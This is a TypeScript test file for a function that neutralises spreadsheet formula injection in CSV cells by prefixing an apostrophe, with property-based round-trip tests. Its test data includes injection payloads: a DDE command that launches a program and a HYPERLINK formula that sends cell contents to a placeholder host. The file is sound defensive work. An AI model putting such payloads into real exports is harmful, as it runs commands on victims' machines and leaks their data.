import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { neutralCell, plainCell } from './neutral-cell.ts';

const formulas = [
	'=1+1',
	'+1+1',
	'-1+1',
	'@SUM(A1)',
	"=cmd|' /C calc'!A0",
	'-2+3+cmd|’ /C calc’!D2',
	'=HYPERLINK("http://elsewhere.example?"&A1)',
	'\t=1',
	'\r=1',
	'\n=1',
	'\tplain',
	' =1',
	'\u00a0=1',
	'\u200b=1',
	'\ufeff=1',
	'\u0000=1',
	'\u202e=1',
	'＝1+1',
	'＋1',
	'－1',
	'＠SUM(A1)',
	'--3',
	'+44 1698 000000',
	'- first of a list',
	'-3 of 60',
	'=',
	"'=already there"
];
const harmless = [
	'',
	'yes',
	'54 of 60',
	"'tis",
	"''",
	'5-3',
	'a=b',
	'0101',
	'"',
	';=1',
	'-3',
	'+3',
	'-0.5',
	'-12.75'
];

describe('a cell of a CSV file', () => {
	test.each(formulas)('that begins like a formula gets an apostrophe: %j', (text) => {
		expect(neutralCell(text)).toBe(`'${text}`);
	});

	test.each(harmless)('that runs nothing stays as it is: %j', (text) => {
		expect(neutralCell(text)).toBe(text);
		expect(plainCell(text)).toBe(text);
	});

	test('is, once read in again, what it was', () => {
		const sign = fc.constantFrom(
			"'",
			'=',
			'-',
			'+',
			'@',
			'＝',
			' ',
			'\t',
			'\n',
			'\r',
			'\ufeff',
			'3',
			'.',
			'a',
			'"'
		);
		fc.assert(
			fc.property(fc.array(sign, { maxLength: 8 }), (signs) => {
				const text = signs.join('');
				expect(plainCell(neutralCell(text))).toBe(text);
			}),
			{ numRuns: 2000 }
		);
	});

	test('never begins with a sign of a formula, unless it is a number', () => {
		fc.assert(
			fc.property(fc.constantFrom(...formulas), fc.string(), (begin, rest) => {
				const cell = neutralCell(begin + rest);
				if (!/^[+-]?\d+(\.\d+)?$/.test(cell)) expect(cell).toMatch(/^'/);
			})
		);
	});
});
